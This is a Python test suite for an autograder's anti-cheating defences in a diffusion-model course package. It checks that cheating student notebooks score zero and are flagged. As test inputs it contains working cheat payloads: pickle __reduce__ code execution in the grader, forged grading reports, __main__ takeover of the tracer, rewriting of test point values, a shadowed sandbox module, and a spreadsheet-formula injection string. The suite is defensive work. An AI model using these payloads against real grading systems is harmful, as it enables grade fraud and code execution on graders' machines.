"""Ways to get marks without doing the work, each closed, each with a test.

The fast tests exercise one defence each in-process: the source audit's tampering findings, the
profiler that catches delegation at run time, what the plugin changes in Otter's process, and
what grade.py trusts. The slow test grades one batch of cheating submissions with the real
autograder (`assignments/grade.py`, `otter run`, the classroom plugin): each must score 0 where
it cheats and be flagged, and an honest submission in the same batch keeps full marks.
"""
import csv
import importlib.util
import io
import json
import os
import pickle
import subprocess
import sys
import threading
import types
import zipfile
from pathlib import Path

import nbformat
import pytest
import torch

import diffusion_tutorial as dt
from diffusion_tutorial.checks import classroom, sandbox

ROOT = Path(__file__).resolve().parents[1]
spec = importlib.util.spec_from_file_location("grade", ROOT / "assignments" / "grade.py")
grade = importlib.util.module_from_spec(spec)
spec.loader.exec_module(grade)


def notebook(*cells, metadata=None):
    return {"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], "source": c} for c in cells],
            "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5}


def tampering(*cells):
    return classroom.tampering(classroom.audit_findings(notebook(*cells), ["q_sample"]))


# ---------------------------------------------------------------- the source audit
REACHING = {  # each reaches into the grader's process or files; none needs an honest answer
    "__main__": "import __main__ as m\nm.rebound = lambda before: []\n",
    "sys.argv": "import sys\nrequest = sys.argv[1]\n",
    "torch.sys": "torch.sys.modules['x'] = None\n",
    "importlib": "import importlib.util as u\nspec = u.spec_from_file_location('m', dt.diffusion.__file__)\n",
    "open": "with open('tests/q_sample.py', 'w') as f:\n    f.write('points = 100')\n",
    "os._exit": "from os import _exit\n_exit(0)\n",
    "getattr": "f = getattr(torch, 'all' + 'close')\n",
    "getattr passed": "import functools\nf = functools.reduce(getattr, ['sys'], torch)\n",
    "__reduce__": "class P:\n    def __reduce__(self):\n        return (print, ('x',))\n",
    "__reduce__ assigned": "class P:\n    __reduce__ = lambda self: (print, ('x',))\n",
    "__code__": "f = dt.cosine_beta_schedule.__code__\n",
    "__globals__": "g = q_sample.__globals__\n",
    "frames": "import inspect\nlocals_ = inspect.stack()[1].frame.f_locals\n",
    "dunder string": "C = type('C', (), {'__reduce__': lambda self: (print, ())})\n",
    "exec": "exec('x = 1')\n",
    "builtins.exec": "import builtins\nbuiltins.exec('x = 1')\n",
    "shell": "!cp evil.py tests/\n",
    "shell in an assignment": "files = !ls\nimport __main__\n",
    "cell magic": "%%writefile tests/bonus.py\npoints = 100\n",
    "grader's module": "from diffusion_tutorial.checks.questions import ASSIGNMENTS\n",
    "profiler": "import sys\nsys.setprofile(None)\n",
    "torch.save": "torch.save({}, 'zzz.pth')\n",
    "numpy.save imported": "from numpy import save\nsave('x.npy', [1])\n",
    "write_text": "from pathlib import Path\nPath('sitecustomize.py').write_text('import os')\n",
}
if sys.version_info >= (3, 10):
    REACHING["match"] = "match dt.schedules:\n    case object(__dict__=d):\n        pass\n"


@pytest.mark.parametrize("name", REACHING)
def test_code_that_reaches_into_the_grader_is_tampering(name):
    assert tampering("import torch\nimport diffusion_tutorial as dt\n", REACHING[name]), name


def test_honest_notebooks_hold_no_tampering_and_magics_that_change_nothing_are_fine():
    honest = ("%matplotlib inline\nimport math\nimport torch\nimport numpy as np\n"
              "import matplotlib.pyplot as plt\nimport diffusion_tutorial as dt\n"
              "from diffusion_tutorial.checks import student_seed\n",
              "%%time\ndef q_sample(x0, t, noise, alphas_cumprod):\n"
              "    a = dt.extract(alphas_cumprod, t, x0.shape)\n"
              "    return a.sqrt() * x0 + (1 - a).sqrt() * noise\n",
              "x = torch.stack([torch.ones(2)]).__class__.__name__\nprint(torch.__version__)\n")
    assert classroom.audit_findings(notebook(*honest), ["q_sample"]) == []
    findings = classroom.audit_findings(notebook("%pip install otter-grader\n"))
    assert [f.text for f in findings] == ["installs packages while it is graded (%pip)"]
    assert not classroom.tampering(findings)


def test_delegation_through_aliases_and_subclasses_is_flagged():
    text = " | ".join(classroom.audit_notebook(notebook(
        "import torch\nimport diffusion_tutorial as dt\n_GD = dt.GaussianDiffusion\n_qs = _GD.q_sample\n"
        "class Mine(dt.GaussianDiffusion):\n    pass\n",
        "def q_sample(x0, t, noise, ac):\n    return _qs(Mine(betas=ac), x0, t, noise)\n"), ["q_sample"]))
    assert "q_sample calls the package's q_sample (_qs)" in text
    assert "q_sample calls the package's GaussianDiffusion (Mine)" in text


def test_long_encoded_literals_are_flagged_as_hard_coded():
    text = " | ".join(classroom.audit_notebook(notebook(f"TABLE = {'ab' * 200!r}\n")))
    assert "hard-coded numbers in cell 0: a 400-character str literal" in text


def test_a_notebook_that_is_not_a_notebook_gives_the_fallback_identifier():
    for nb in ({"metadata": {"diffusion_tutorial": "not a dict"}, "cells": "x"}, [], {"cells": [1, None]}):
        assert classroom.student_id(nb, "file") == ("file", "file name")
        assert classroom.audit_notebook(nb) == []


# ---------------------------------------------------------------- the profiler in the fresh process
def test_the_watch_catches_copies_of_package_code_and_lets_helpers_through():
    watch = sandbox.PackageWatch(sandbox.allowed_codes())
    original = dt.cosine_beta_schedule  # a copy of it is not traced by the sandbox's Tracer
    copy = types.FunctionType(original.__code__, dt.schedules.__dict__, "copy", original.__defaults__)
    student = compile("def answer(T):\n    return copy(T)\n", sandbox.STUDENT_FILE.format(3), "exec")
    helper = compile("def helper(T):\n    return dt.extract(torch.ones(T), torch.zeros(2, dtype=torch.long),"
                     " (2, 1)) + len(dt.ddim_timesteps(T, 2))\n", sandbox.STUDENT_FILE.format(4), "exec")
    namespace = {"copy": copy, "dt": dt, "torch": torch}
    exec(student, namespace)
    exec(helper, namespace)
    with watch:
        namespace["helper"](10)
    assert watch.entered == [] and watch.tampered == []
    with watch:
        namespace["answer"](10)
    assert watch.entered == ["schedules.cosine_beta_schedule"]
    through = compile("def answer(T):\n    dt.utils.wall_times(functools.partial(copy, T), 1, 0)\n",
                      sandbox.STUDENT_FILE.format(5), "exec")  # called from the package's utils
    namespace["functools"] = __import__("functools")
    exec(through, namespace)
    with watch:
        namespace["answer"](10)
    assert watch.entered == ["schedules.cosine_beta_schedule"]


def test_the_watch_notes_an_answer_that_switches_it_off():
    code = compile("import sys\ndef answer():\n    sys.setprofile(None)\n", sandbox.STUDENT_FILE.format(1),
                   "exec")
    namespace = {}
    exec(code, namespace)
    watch = sandbox.PackageWatch([])
    with watch:
        namespace["answer"]()
    assert "sys.setprofile" in watch.tampered


def test_a_thread_left_running_by_the_notebook_is_found():
    before = set(sys._current_frames())
    stop = threading.Event()
    code = compile("def spin(stop):\n    stop.wait(10)\n", sandbox.STUDENT_FILE.format(2), "exec")
    namespace = {}
    exec(code, namespace)
    thread = threading.Thread(target=namespace["spin"], args=(stop,))
    thread.start()
    try:
        assert "a thread running the notebook's code" in sandbox.left_running(before)
    finally:
        stop.set()
        thread.join()
    assert "a thread running the notebook's code" not in sandbox.left_running(before)


# ---------------------------------------------------------------- Otter's own process
class _Exec:
    def __reduce__(self):
        return (exec, ("raise SystemExit('ran in the grader')",))


def test_otter_reads_what_the_kernel_wrote_without_running_it(monkeypatch):
    pytest.importorskip("otter")
    import otter.execute
    from otter.check.logs import Log
    from otter.execute.logging import LogRecordStreamHandler
    from otter.test_files import GradingResults
    from diffusion_tutorial.checks.otter_hardening import UnsafePickle, harden_otter
    monkeypatch.setattr(otter.execute, "pickle", otter.execute.pickle)  # all three restored after the test
    monkeypatch.setattr(LogRecordStreamHandler, "unpickle", LogRecordStreamHandler.__dict__["unpickle"])
    monkeypatch.setattr(Log, "from_file", Log.__dict__["from_file"])
    assert harden_otter() == []
    with pytest.raises(UnsafePickle):  # the results file: a pickle that would run code
        otter.execute.pickle.load(io.BytesIO(pickle.dumps(_Exec())))
    results = otter.execute.pickle.load(io.BytesIO(pickle.dumps(GradingResults([]))))
    assert isinstance(results, GradingResults)
    with pytest.raises(UnsafePickle):  # the logging socket
        LogRecordStreamHandler.unpickle(None, pickle.dumps(_Exec()))
    assert LogRecordStreamHandler.unpickle(None, pickle.dumps({"msg": "ok", "args": None})) == {
        "msg": "ok", "args": None}
    with pytest.raises(UnsafePickle):  # a .OTTER_LOG in the submission
        Log.from_file(".OTTER_LOG")


# ---------------------------------------------------------------- what grade.py trusts
def test_scores_are_capped_at_the_autograders_points_and_need_the_plugins_report():
    points = {"q_sample": 1.0, "posterior": 2.0}
    report = grade.PLUGIN_REPORT + ", on inputs of the student's own:"
    inflated = {"scores": {"q_sample": (100.0, 100.0), "posterior": (2.0, 2.0), "bonus": (50.0, 50.0)},
                "report": report}
    scores, flags = grade.trusted_scores(inflated, points, [])
    assert scores == {"q_sample": (1.0, 1.0), "posterior": (2.0, 2.0)}
    assert flags == ["Otter reported a test 'bonus' that the autograder does not have"]
    scores, flags = grade.trusted_scores(dict(inflated, report=""), points, [])
    assert scores == {"q_sample": (0.0, 1.0), "posterior": (0.0, 2.0)}
    assert "the classroom plugin did not report" in flags[-1]
    scores, flags = grade.trusted_scores(inflated, points, ["reaches into ...: imports __main__"])
    assert set(s for s, _ in scores.values()) == {0.0} and "not graded automatically" in flags[-1]


def test_csv_cells_never_start_a_formula():
    assert grade.cell('=HYPERLINK("http://x")') == '\'=HYPERLINK("http://x")'
    assert [grade.cell(v) for v in ["+1", "-2", "@SUM(A1)", "\tx", "s1", 3.0]] == [
        "'+1", "'-2", "'@SUM(A1)", "'\tx", "s1", 3.0]


def test_a_python_file_that_appears_in_site_packages_during_grading_is_flagged(monkeypatch, tmp_path):
    site = tmp_path / "site-packages"
    site.mkdir()
    monkeypatch.setattr(grade, "site_roots", lambda: {str(site)})
    monkeypatch.setattr(grade.time, "sleep", lambda seconds: None)
    ag = tmp_path / "ag.zip"
    with zipfile.ZipFile(ag, "w") as zf:
        zf.writestr("tests/q_sample.py", 'name = "q_sample"\npoints = 1\n')
    report = grade.PLUGIN_REPORT + ":\n  q_sample: passed"

    def run(cmd, **kwargs):
        (site / "zzz_persist.pth").write_text("import os\n")  # what a submission might leave behind
        (Path(cmd[cmd.index("-o") + 1]) / "results.json").write_text(json.dumps(
            {"tests": [{"name": "q_sample", "score": 1.0, "max_score": 1.0, "output": ""}],
             "output": report}))
        return subprocess.CompletedProcess(cmd, 0, "", "")
    monkeypatch.setattr(grade.subprocess, "run", run)
    sub = tmp_path / "a.ipynb"
    sub.write_text(json.dumps(notebook("STUDENT_ID = 's1'\n")))
    grade.main([str(sub), "-a", str(ag), "-o", str(tmp_path / "g.csv"), "-j", "1"])
    with open(tmp_path / "g.csv", newline="", encoding="utf-8") as f:
        row = next(csv.DictReader(f))
    assert "the grading environment changed" in row["flags"] and "zzz_persist.pth" in row["flags"]


# ---------------------------------------------------------------- graded with the real autograder
ALIASES = """
_GD = dt.GaussianDiffusion
_qs = _GD.q_sample
_cos = dt.cosine_beta_schedule
_tmr = dt.to_model_range
"""
DELEGATING = {  # pass Otter's tests in the kernel without a word of the package inside an answer
    "scale_to_model_range": "def scale_to_model_range(x):\n    return _tmr(x)\n",
    "q_sample": ("def q_sample(x0, t, noise, alphas_cumprod):\n"
                 "    prev = torch.cat([alphas_cumprod.new_ones(1), alphas_cumprod[:-1]])\n"
                 "    d = _GD(betas=(1 - alphas_cumprod / prev).double())\n"
                 "    return _qs(d, x0, t, noise).to(x0.dtype)\n"),
    "cosine_schedule": "def cosine_schedule(T, s=0.008):\n    return _cos(T, s)\n"}
WRONG_COSINE = {"cosine_schedule": "def cosine_schedule(T, s=0.008):\n"
                                   "    return torch.full((T,), 0.01).double()\n"}
MAIN_TAKEOVER = ALIASES + """
import __main__ as _m
if hasattr(_m, "Tracer"):  # only in the grader's fresh process: switch its checks off
    _m.Tracer.__enter__ = lambda self: self
    _m.Tracer.__exit__ = lambda self, *a: None
    _m._origin = lambda fn: ""
    _m.rebound = lambda before: []
"""
FORGE = """
import sys, json, os, torch
if len(sys.argv) > 1 and sys.argv[1].endswith("request.json"):  # the grader's fresh process
    from diffusion_tutorial.checks.questions import ASSIGNMENTS
    from diffusion_tutorial.checks.sandbox import plain
    req = json.load(open(sys.argv[1]))
    rep = {"rebound": [], "errors": [], "questions": {}}
    for q in ASSIGNMENTS[req["assignment"]]:
        calls = q.calls(torch.Generator().manual_seed(req["seeds"][q.name]))
        rep["questions"][q.name] = {"answers": [{"value": plain(q.reference(*c.args)), "called": []}
                                                for c in calls], "reads": {}}
    open(req["out"], "w").write(repr(rep))
    os._exit(0)
"""
SHADOW_SANDBOX = """
import os, sys
here = os.path.abspath(os.getcwd())
sys.path[:] = [p for p in sys.path if p and os.path.abspath(p) != here]
for k in list(sys.modules):
    if k.startswith("diffusion_tutorial"):
        del sys.modules[k]
""" + FORGE.replace('if len(sys.argv) > 1 and sys.argv[1].endswith("request.json")', "if True")
PICKLE_RCE = ALIASES + """
import pickle, operator
_code = ("import diffusion_tutorial.checks.otter_plugin as P\\n"
         "P.ClassroomPlugin.after_grading = lambda s, r: None")
class _Run:
    def __reduce__(self):
        return (exec, (_code,))
class _Wrap:
    def __init__(self, obj):
        self.obj = obj
    def __reduce__(self):
        return (operator.getitem, ((_Run(), self.obj), 1))
_dump = pickle.dump
pickle.dump = lambda obj, f, *a, **k: _dump(_Wrap(obj), f, *a, **k)
"""
INFLATE = """
import glob
for _f in glob.glob("tests/*.py"):
    if "cosine" not in _f:
        _s = open(_f).read()
        open(_f, "w").write(_s.replace("points = 1", "points = 100"))
"""
OTTER_LOG = ("import otter.run.run_autograder.runners.python_runner as R\n_orig = R.grade_notebook\n"
             "def _graded(*a, _orig=_orig, **k):\n    k['plugin_collection'] = None\n"
             "    res = _orig(*a, **k)\n    for tf in res.results.values():\n"
             "        tf.update_score(tf.possible)\n"
             "    return res\nR.grade_notebook = _graded\n")


class _OtterLog:
    def __reduce__(self):
        return (exec, (OTTER_LOG,))


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    out = tmp_path_factory.mktemp("assignments")
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}")
    proc = subprocess.run(["bash", str(ROOT / "scripts" / "build_assignments.sh"), "--out", str(out),
                           "--no-run-tests", "--torch-index", "none", "forward_process", "reverse_process"],
                          capture_output=True, text=True, env=env)
    assert proc.returncode == 0, proc.stdout[-2000:] + proc.stderr[-2000:]
    return out


def _answer_cell(nb, question):
    tags = {"otter_answer_cell", "otter_assign_solution_cell"}
    return next(c for c in nb.cells
                if tags & set(c.metadata.get("tags", [])) and f"def {question}(" in c.source)


def submission(built, name, folder, student, answers=None, setup="", extra_cell=None, file=None):
    """The student edition with the model answers, some replaced, ``setup`` after STUDENT_ID."""
    solutions = nbformat.read(built / name / "autograder" / f"{name}.ipynb", 4)
    nb = nbformat.read(built / name / "student" / f"{name}.ipynb", 4)
    for cell in [c for c in nb.cells if "otter_answer_cell" in c.metadata.get("tags", [])
                 and "def " in c.source]:
        question = cell.source.split("def ", 1)[1].split("(", 1)[0]
        cell.source = (answers or {}).get(question) or _answer_cell(solutions, question).source
    first = next(i for i, c in enumerate(nb.cells) if 'STUDENT_ID = ""' in c.source)
    nb.cells[first].source = nb.cells[first].source.replace('STUDENT_ID = ""', f"STUDENT_ID = {student!r}")
    nb.cells[first].source += "\n" + setup
    if extra_cell:
        nb.cells.insert(first + 1, nbformat.v4.new_code_cell(extra_cell))
    path = folder / name / f"{file or student}.ipynb"
    path.parent.mkdir(exist_ok=True)
    nbformat.write(nb, path)
    return path


def zipped(path, extra):
    """``path`` in a zip, as grader.export() writes it, with ``extra`` files beside it."""
    out = path.with_suffix(".zip")
    with zipfile.ZipFile(out, "w") as zf:
        zf.write(path, path.parent.name + ".ipynb")
        for name, data in extra.items():
            zf.writestr(name, data)
    path.unlink()
    return out


@pytest.mark.slow
def test_cheats_on_the_grader_score_zero_and_are_flagged(built, tmp_path):
    """One graded batch per assignment: each cheat scored full marks before it was closed."""
    from diffusion_tutorial.checks.questions import ASSIGNMENTS, question_seed
    F = "forward_process"
    secret = json.loads(zipfile.ZipFile(built / F / "autograder.zip").read("otter_config.json"))["plugins"][0]
    assert len(next(iter(secret.values()))["secret"]) == 32  # a fresh secret, not the public ""
    q = next(q for q in ASSIGNMENTS[F] if q.name == "cosine_schedule")  # inputs known from secret ""
    calls = q.calls(torch.Generator().manual_seed(question_seed("table", F, "cosine_schedule", "")))
    table = {(c.args[0], c.args[1] == 0.008): q.reference(*c.args).double().numpy().tobytes().hex()
             for c in calls}
    subs = [
        submission(built, F, tmp_path, "alice"),
        submission(built, F, tmp_path, "main_takeover", DELEGATING, MAIN_TAKEOVER),
        submission(built, F, tmp_path, "forge", DELEGATING, ALIASES + FORGE),
        submission(built, F, tmp_path, "pickle_rce", {**DELEGATING, **WRONG_COSINE}, PICKLE_RCE),
        submission(built, F, tmp_path, "hidden_cell", {**DELEGATING, **WRONG_COSINE}, ALIASES,
                   extra_cell="_ = !true\n" + PICKLE_RCE),
        submission(built, F, tmp_path, "inflate", WRONG_COSINE, INFLATE),
        submission(built, F, tmp_path, "table", {"cosine_schedule": (
            f"_TAB = {table!r}\n\n\ndef cosine_schedule(T, s=0.008):\n    if (T, s == 0.008) in _TAB:\n"
            "        return torch.frombuffer(bytearray.fromhex(_TAB[T, s == 0.008]), dtype=torch.float64)\n"
            "    return _cos(T, s)\n")}, ALIASES),
        zipped(submission(built, F, tmp_path, "zip_shadow", DELEGATING, ALIASES), {
            "diffusion_tutorial/__init__.py": "", "diffusion_tutorial/checks/__init__.py": "",
            "diffusion_tutorial/checks/sandbox.py": SHADOW_SANDBOX}),
        zipped(submission(built, F, tmp_path, "otter_log", {q: f"def {q}(*a):\n    ...\n"
                                                            for q in DELEGATING}),
               {".OTTER_LOG": pickle.dumps(_OtterLog())}),  # a blank notebook
        submission(built, F, tmp_path, '=HYPERLINK("http://x.example/?"&A1)', file="formula"),
        submission(built, F, tmp_path, "s 1", file="s_space_1"),
        submission(built, F, tmp_path, "s_1"),
    ]
    bad = submission(built, F, tmp_path, "", file="bad_metadata")  # used to stop the whole batch
    nb = json.loads(bad.read_text())
    nb["metadata"]["diffusion_tutorial"] = "not a dict"
    bad.write_text(json.dumps(nb))
    subs.append(bad)
    R = "reverse_process"
    private_copy = """
import importlib.util as _u
def _load(name, path):
    spec = _u.spec_from_file_location(name, path)
    module = _u.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
_sc = _load("diffusion_tutorial.schedules_copy", dt.schedules.__file__)
_dm = _load("diffusion_tutorial.diffusion_copy", dt.diffusion.__file__)
_dm.alphas_cumprod_from_betas, _dm.check_betas = _sc.alphas_cumprod_from_betas, _sc.check_betas
_D = _dm.GaussianDiffusion
_post = _D.q_posterior
"""
    reverse = [submission(built, R, tmp_path, "private_copy", {"posterior": (
        "def posterior(x0, x_t, t, betas):\n    mean, var = _post(_D(betas=betas.double()), x0, x_t, t)\n"
        "    return mean, var.to(x_t.dtype)\n")}, private_copy)]

    def graded(name, paths):
        out = tmp_path / f"{name}.csv"
        proc = subprocess.run([sys.executable, str(ROOT / "assignments" / "grade.py"), "-a",
                               str(built / name / "autograder.zip"), "-o", str(out), "-j", "2",
                               *map(str, paths)], capture_output=True, text=True)
        with open(out, newline="", encoding="utf-8") as f:
            return {row["submission"]: row for row in csv.DictReader(f)}, proc

    from concurrent.futures import ThreadPoolExecutor
    with ThreadPoolExecutor(2) as pool:
        (rows, proc), (rows_r, _) = pool.map(graded, [F, R], [subs, reverse])
    assert not any("Traceback" in line for line in proc.stderr.splitlines()), proc.stderr[-2000:]

    def total(file):
        return float(rows[file]["total"])

    assert total("alice.ipynb") == 3 and rows["alice.ipynb"]["flags"] == ""
    for cheat in ["main_takeover", "forge", "pickle_rce", "hidden_cell", "inflate"]:
        row = rows[f"{cheat}.ipynb"]
        assert total(f"{cheat}.ipynb") == 0 and float(row["possible"]) == 3, (cheat, row)
        assert "reaches into the Python process or the grader's files" in row["flags"], (cheat, row["flags"])
    assert "imports __main__" in rows["main_takeover.ipynb"]["flags"]
    assert "sys.argv" in rows["forge.ipynb"]["flags"]
    assert "the magic %true" in rows["hidden_cell.ipynb"]["flags"]
    assert "the points of q_sample changed while the notebook ran" in rows["inflate.ipynb"]["flags"]
    assert "UnsafePickle: the notebook's kernel sent _operator.getitem" in rows["pickle_rce.ipynb"]["error"]
    assert float(rows["table.ipynb"]["cosine_schedule"]) == 0 and total("table.ipynb") == 2
    assert "a 2000-character str literal" in rows["table.ipynb"]["flags"]
    assert total("zip_shadow.zip") == 0 and "brings files of its own (diffusion_tutorial)" in rows[
        "zip_shadow.zip"]["flags"]
    assert total("otter_log.zip") == 0  # the log was not read: the plugin graded as usual
    assert total("formula.ipynb") == 3 and rows["formula.ipynb"]["student"].startswith("'=HYPERLINK")
    feedback = sorted(p.name for p in (tmp_path / f"{F}_feedback").glob("s_1*.txt"))
    assert len(feedback) == 2, feedback  # "s 1" and "s_1" no longer share a feedback file
    assert total(f"{bad.name}") == 3 and rows[bad.name]["student"] == bad.stem
    assert float(rows_r["private_copy.ipynb"]["total"]) == 0
    assert "importlib.util" in rows_r["private_copy.ipynb"]["flags"]
